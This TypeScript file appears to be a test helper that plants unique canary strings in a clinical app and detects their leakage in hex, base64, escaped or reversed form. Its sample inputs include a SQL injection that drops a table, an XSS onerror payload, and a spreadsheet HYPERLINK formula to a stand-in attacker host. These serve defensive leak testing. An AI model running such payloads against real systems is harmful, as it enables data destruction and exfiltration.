// Canaries: texts that stand nowhere else in the world, each in a place where people write what is clinical. Wherever the mark of one
// is found outside a seal, as it is or as some layer writes it, something leaked.
import { randomBytes } from 'node:crypto';

/** Begins each of them. Letters alone, so that no escaping of JSON, HTML, SQL, CSV or an address changes it. */
const MARK = 'canaryzq';
const LETTERS = MARK.split('');
const ID = /canaryzq\d{5}[a-z]{6}/g;

/** What people type that some layer may write otherwise, or take for its own. */
const ODD = [
  (id: string) => `She said “${id}” and meant it.`,
  (id: string) => `'; drop table couples; -- ${id}`,
  (id: string) => `<img src=x onerror="alert('${id}')">`,
  (id: string) => `{"note": "${id}", "deep": {"\\u0041": null}}`,
  (id: string) => `100 %25 ${id} %s %n \\ // ?a=b&c=d#e`,
  (id: string) => `=HYPERLINK("https://evil.example/${id}")`,
  (id: string) => `\u202e${id} שלום 👩‍❤️‍👨 e\u0301`,
  (id: string) => `{{${id}}} \${${id}} $1 :name @name #x`,
  (id: string) => `a@${id}.example https://${id}.example/`,
];

export class Canaries {
  readonly made: string[] = [];

  /** One text; `lines` of them where more than one line may stand. */
  say(lines = 1): string {
    return Array.from({ length: lines }, () => this.#one()).join('\n');
  }

  /** Some that fit where little fits. */
  short(): string {
    const id = this.#id();
    return id;
  }

  #one(): string {
    const id = this.#id();
    return ODD[this.made.length % ODD.length]!(id);
  }

  #id(): string {
    const letters = [...randomBytes(6)].map((byte) => String.fromCodePoint(97 + (byte % 26))).join('');
    const id = `${MARK}${String(this.made.length + 1).padStart(5, '0')}${letters}`;
    this.made.push(id);
    return id;
  }
}

export const idsIn = (text: string): string[] => text.match(ID) ?? [];

/** The mark as other layers write it: hexadecimal as Postgres shows bytes, base64 at each of its three places, two bytes a letter, backwards. */
const WRITTEN: readonly (readonly [string, RegExp])[] = (() => {
  const inBase64 = [0, 1, 2].map((before) => {
    const text = Buffer.from('x'.repeat(before) + MARK)
      .toString('base64')
      .replaceAll('=', '');
    // What the letters beside it have a part in is left out.
    return text.slice(before === 0 ? 0 : before + 1, -1 - ((before + MARK.length) % 3 === 0 ? 0 : 1));
  });
  return [
    ['as it is', new RegExp(MARK, 'i')],
    ['in hexadecimal', new RegExp(Buffer.from(MARK).toString('hex'), 'i')],
    ...inBase64.map((text) => ['in base64', new RegExp(text)] as const),
    ['in two bytes a letter', new RegExp(LETTERS.join('\0'))],
    [
      'letter by letter',
      new RegExp(
        LETTERS.map((letter) => `(?:%|\\\\u00|\\\\x|&#x)${letter.codePointAt(0)!.toString(16)};?`).join(''),
        'i',
      ),
    ],
    ['backwards', new RegExp(LETTERS.toReversed().join(''), 'i')],
  ];
})();

/** How a canary stands in a text that should hold none; empty when none does. */
export const leaksIn = (text: string): string[] =>
  WRITTEN.flatMap(([how, written]) => (written.test(text) ? [how] : []));
